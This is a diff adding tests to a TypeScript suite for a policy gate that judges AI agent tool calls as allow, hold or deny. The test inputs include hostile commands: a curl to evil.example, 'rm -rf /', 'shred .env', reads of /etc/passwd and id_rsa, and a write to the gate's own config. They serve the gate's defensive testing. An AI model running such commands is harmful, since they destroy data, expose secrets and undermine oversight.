@@ -245,6 +245,29 @@ describe('arguments', () => {
     expect(rows(MAX_JSON_PARTS - 1)).toBe('MALFORMED');
   });
 
+  test('many findings of one kind do not hide one of another', () => {
+    const paths = ['/etc/1', '/etc/2', '/etc/3', '/etc/4', '/etc/5', '/etc/6', '/etc/7', '.env'];
+    const { findings } = read('read_file', { paths });
+    expect(findings.map(({ code }) => code)).toContain('SECRETS');
+    expect(findings.filter(({ code }) => code === 'FS_READ_OUTSIDE')).toHaveLength(5);
+  });
+
+  test('what a command reads, writes and reaches is shown with the call', () => {
+    const { paths, hosts } = read('exec', { command: 'cat docs/a > output/b; curl https://evil.example/x' });
+    expect(paths.map(({ given, use }) => `${use} ${given}`).toSorted()).toEqual(['read docs/a', 'write output/b']);
+    expect(hosts.map(({ host }) => host)).toEqual(['evil.example']);
+  });
+
+  test('a command that writes what configures the gate is red', () => {
+    const decision = judge(callOf('exec', { command: 'cat docs/a > /home/u/.openclaw/openclaw.json' }));
+    expect(decision.reasons.map(({ code, policyPath }) => [code, policyPath])).toContainEqual(['FS_CONFIG_BLOCKED', 'builtin.gatePaths']);
+    expect(decision.risk).toBe('red');
+  });
+
+  test('OpenClaw drops a broken XML suffix from a path', () => {
+    expect(judge(callOf('read', { path: 'id_rsa</arg_value>>' })).reasons.map(({ code }) => code)).toContain('SECRETS');
+  });
+
   test('findings do not pile up', () => {
     const files = Array.from({ length: 500 }, (_, i) => ({ path: `/etc/${i}` }));
     expect(read('write_file', { files }).findings.length).toBeLessThan(20);
@@ -270,6 +293,163 @@ describe('arguments', () => {
     [`${"'".repeat(100_001)} drop table x`, null],
   ])('the query %.40j raises read_db to %s', (query, risk) => {
     expect(read('read_db', { query }).risk).toBe(risk ?? 'green');
+  });
+});
+
+describe('a call that cannot be read', () => {
+  test.each<[string, unknown]>([
+    ['no tool', { tool: '' }],
+    ['a tool that is no text', { tool: 7 }],
+    ['a tool with a name too long', { tool: 'x'.repeat(201) }],
+    ['a tool with a space', { tool: 'read db' }],
+    ['arguments that are null', { arguments: null }],
+    ['arguments that are a list', { arguments: ['ls'] }],
+    ['arguments that are no JSON', { arguments: { f: () => 1 } }],
+    ['a wrapper without arguments', { tool: 'tool_call', arguments: null }],
+    ['a working directory that is no text', { cwd: 7 }],
+    ['a working directory with a line break', { cwd: '/workspace\n/etc' }],
+    ['a working directory too long', { cwd: 'a/'.repeat(2_049) }],
+    ['a working directory too long among the arguments', { arguments: { workdir: 'a/'.repeat(2_049) } }],
+    ['a workspace that is relative', { workspace: 'work' }],
+    ['a workspace with NUL', { workspace: '/work\0' }],
+  ])('%s: malformed, and nothing else is said', (_name, change) => {
+    const decision = judge({ ...callOf('read_db'), ...(change as object) });
+    expect(decision).toMatchObject({ verdict: 'deny', risk: 'red', reasons: [{ code: 'MALFORMED', policyPath: 'builtin.malformed' }] });
+    expect(decision.reasons).toHaveLength(1);
+  });
+
+  test('a name of 200 characters can be read', () => {
+    expect(judge(callOf('x'.repeat(200))).reasons[0]?.code).toBe('UNKNOWN_TOOL');
+  });
+
+  test('what is quoted in a reason is short and on one line', () => {
+    for (const path of ['/etc/'.repeat(400), '/etc/a\nb\u202e']) {
+      const message = judge(callOf('read_file', { path })).reasons[0]?.message ?? '';
+      expect(message.length).toBeLessThan(300);
+      expect(message).toMatch(/^[\x20-\x7e…]+$/);
+    }
+    expect(judge(callOf('read_file', { path: '/etc/\u202etxt' })).reasons[0]?.message).toContain('\\u{202e}');
+    expect(judge(callOf('read_file', { path: '/étc/日本' })).reasons[0]?.message).toContain('/étc/日本');
+  });
+});
+
+describe('redirects', () => {
+  const after = (tool: string, args: JsonObject, ...redirects: string[]) =>
+    judge(callOf(tool, args), factsWith({ network: { redirects } })).verdict;
+  test.each([
+    ['https://api.github.com/x', 'allow'],
+    ['/x', 'allow'],
+    ['x?y', 'allow'],
+    ['//evil.example', 'hold'],
+    ['https://evil.example', 'hold'],
+    ['http://github.com', 'hold'],
+    ['file:///etc/passwd', 'hold'],
+    ['https://u:p@github.com', 'deny'],
+    ['http://127.0.0.1', 'deny'],
+  ] as const)('from a listed host to %s: %s', (hop, verdict) => {
+    expect(after('web_fetch', { url: 'https://github.com/a/b' }, hop)).toBe(verdict);
+  });
+
+  test('a hop is relative to the one before it', () => {
+    expect(after('web_fetch', { url: 'https://github.com/' }, 'https://api.github.com/', '/x')).toBe('allow');
+    expect(after('web_fetch', { url: 'https://github.com/' }, 'https://evil.example/', '/x')).toBe('hold');
+  });
+
+  test('a relative hop from nowhere is refused', () => {
+    expect(after('read_db', {}, '/x')).toBe('deny');
+  });
+});
+
+/** Calls that differ from an unremarkable one in one thing; each must be noticed by its verdict and code. */
+describe('one argument makes the difference', () => {
+  const image = { tool: 'exec', base: { command: 'ls' } };
+  test.each<[string, JsonObject, 'allow' | 'hold' | 'deny', string]>([
+    ['create_doc', { content: 'x', template_path: '/etc/passwd' }, 'hold', 'FS_WRITE_OUTSIDE'],
+    ['read_db', { path: '/var/lib/x.db' }, 'hold', 'FS_READ_OUTSIDE'],
+    ['send_email', { attachments: [{ path: '.env' }] }, 'hold', 'SECRETS'],
+    ['deploy_prod', {}, 'hold', 'PROD_EXTERNAL'],
+    ['deploy_prod', { manifest_file: '/etc/x' }, 'hold', 'FS_READ_OUTSIDE'],
+    ['access_secrets', { file: '/etc/x' }, 'hold', 'FS_READ_OUTSIDE'],
+    ['exec', { ...image.base, node: 'mac' }, 'hold', 'SHELL_NOT_ALLOWLISTED'],
+    ['exec', { ...image.base, host: 'node' }, 'hold', 'SHELL_NOT_ALLOWLISTED'],
+    ['exec', { ...image.base, host: 'elsewhere' }, 'hold', 'SHELL_NOT_ALLOWLISTED'],
+    ['exec', { ...image.base, host: 'gateway' }, 'allow', 'OK'],
+    ['exec', { ...image.base, env: {} }, 'allow', 'OK'],
+    ['exec', { ...image.base, env: { A: '1' } }, 'hold', 'SHELL_NOT_ALLOWLISTED'],
+    ['exec', { ...image.base, env: 'A=1' }, 'hold', 'SHELL_NOT_ALLOWLISTED'],
+    ['exec', { ...image.base, elevated: false }, 'allow', 'OK'],
+    ['exec', { ...image.base, elevated: 'yes' }, 'hold', 'SHELL_NOT_ALLOWLISTED'],
+    ['exec', { ...image.base, workdir: 7 }, 'hold', 'SHELL_NOT_ALLOWLISTED'],
+    ['exec', { command: 'pwd', workdir: '/etc' }, 'hold', 'FS_READ_OUTSIDE'],
+    ['exec', { command: 'pwd', workdir: 'do\u200bcs' }, 'hold', 'FS_READ_OUTSIDE'],
+    ['exec', { ...image.base, security: 'full' }, 'hold', 'SHELL_NOT_ALLOWLISTED'],
+    ['process', { command: 'rm -rf /' }, 'deny', 'SHELL_BLOCKED'],
+    ['process', { action: 'list', command: 'sudo ls' }, 'deny', 'SHELL_BLOCKED'],
+    ['process', {}, 'deny', 'MALFORMED'],
+    ['destructive_shell', { command: 7 }, 'deny', 'MALFORMED'],
+    ['destructive_shell', { command: 'shred .env' }, 'hold', 'SECRETS'],
+    ['destructive_shell', { command: 'rm -rf /etc/x' }, 'hold', 'RED_ACTION'],
+    ['read_file', { path: 'a', files: [7] }, 'deny', 'MALFORMED'],
+    ['read_file', { path: 'a', file: true }, 'deny', 'MALFORMED'],
+    ['network_call', { url: { host: 'x' }, endpoint: 'https://github.com/' }, 'deny', 'MALFORMED'],
+    ['browser', { action: 'open', url: 7 }, 'deny', 'MALFORMED'],
+    ['browser', { action: 'open', targetUrl: ['x'] }, 'deny', 'MALFORMED'],
+    ['browser', { action: 7 }, 'deny', 'MALFORMED'],
+    ['browser', {}, 'deny', 'MALFORMED'],
+    ['browser', { url: 'https://github.com/' }, 'allow', 'OK'],
+    ['browser', { action: 'act', kind: 'hover', ref: 'e1' }, 'allow', 'OK'],
+    ['browser', { action: 'act', kind: 'hover', request: { kind: 'click' } }, 'hold', 'PROD_EXTERNAL'],
+    ['browser', { action: 'act', request: { kind: 'type', text: 'x' } }, 'hold', 'PROD_EXTERNAL'],
+    ['browser', { action: 'act' }, 'hold', 'PROD_EXTERNAL'],
+    ['browser', { action: 'dialog', accept: true }, 'hold', 'PROD_EXTERNAL'],
+    ['browser', { action: 'upload', paths: ['a'] }, 'hold', 'PROD_EXTERNAL'],
+    ['browser', { action: 'pdf' }, 'allow', 'OK'],
+    ['browser', { action: 'download', ref: 'e1', path: 'output/x' }, 'allow', 'OK'],
+    ['browser', { action: 'download', ref: 'e1', path: 'src/x' }, 'hold', 'FS_WRITE_OUTSIDE'],
+    ['git_push', { remote: 7, branch: 'fix' }, 'deny', 'MALFORMED'],
+    ['git_push', { remote: 'origin', branch: 7 }, 'deny', 'MALFORMED'],
+    ['git_push', { remote: 'origin', branch: 'fix', path: '/etc' }, 'hold', 'FS_READ_OUTSIDE'],
+    ['git_push', { remote: 'origin', branch: 'fix', cwd: '/etc' }, 'hold', 'FS_READ_OUTSIDE'],
+    ['git_push', { remote: 'origin', branch: 'fix', tags: true }, 'hold', 'PROD_EXTERNAL'],
+    ['git_push', { url: 'git@github.com:a/b.git', branch: 'fix' }, 'allow', 'OK'],
+    ['git_push', { url: 'ssh://git@github.com/a/b.git', branch: 'fix' }, 'allow', 'OK'],
+    ['git_push', { url: 'root@github.com:a/b.git', branch: 'fix' }, 'hold', 'NET_NOT_ALLOWLISTED'],
+    ['git_push', { remote: 'origin', branch: 'fix', dryRun: true, setUpstream: true }, 'allow', 'OK'],
+    ['git_commit', { message: ['x'] }, 'deny', 'MALFORMED'],
+    ['git_commit', { message: 'x', noVerify: true }, 'hold', 'SHELL_NOT_ALLOWLISTED'],
+    ['git_commit', { message: 'x', paths: ['/etc/passwd'] }, 'hold', 'FS_READ_OUTSIDE'],
+    ['install_deps', { packages: ['zod'], registry: 'https://evil.example' }, 'hold', 'NET_NOT_ALLOWLISTED'],
+    ['install_deps', { packages: ['zod'], cwd: '/etc' }, 'hold', 'FS_READ_OUTSIDE'],
+    ['install_deps', { requirements_file: '/etc/r.txt' }, 'hold', 'FS_READ_OUTSIDE'],
+    ['install_deps', { args: ['--unsafe-perm'] }, 'hold', 'SHELL_NOT_ALLOWLISTED'],
+    ['install_deps', { packages: ['git@github.com:a/b.git'] }, 'hold', 'NET_NOT_ALLOWLISTED'],
+    ['install_deps', { packages: ['github:a/b'] }, 'hold', 'NET_NOT_ALLOWLISTED'],
+    ['install_deps', { packages: ['x@file:../y'] }, 'hold', 'FS_READ_OUTSIDE'],
+    ['install_deps', { packages: ['name @ https://evil.example/x.whl'] }, 'hold', 'NET_NOT_ALLOWLISTED'],
+    ['ls', { path: '/etc' }, 'hold', 'FS_READ_OUTSIDE'],
+  ])('%s %j: %s with %s', (tool, args, verdict, code) => {
+    const decision = judge(callOf(tool, args));
+    expect([decision.verdict, decision.reasons.some((reason) => reason.code === code)]).toEqual([verdict, true]);
+  });
+
+  test('ls without a path outside the workspace', () => {
+    expect(judge({ ...callOf('ls'), cwd: '/etc' }).verdict).toBe('hold');
+  });
+
+  test('a command that means nothing by itself does not raise the risk of a foreign tool', () => {
+    const mcp = { server: 'w', trusted: true, annotations: { readOnlyHint: true }, changed: false };
+    expect(judge(callOf('w__x', { command: 'make all' }), factsWith({ mcp }))).toMatchObject({ verdict: 'allow', risk: 'green' });
+    expect(judge(callOf('w__x', { command: 'find . -delete' }), factsWith({ mcp }))).toMatchObject({ verdict: 'hold', risk: 'red' });
+  });
+
+  test('the reason for a pushed branch says what is wrong with it', () => {
+    const why = (branch: string) => judge(callOf('git_push', { branch })).reasons.at(-1)?.message;
+    expect([why('+x'), why(':x'), why('main'), why('a b')]).toEqual([
+      expect.stringContaining('forces'),
+      expect.stringContaining('deletes'),
+      expect.stringContaining('default'),
+      expect.stringContaining('plain'),
+    ]);
   });
 });
 
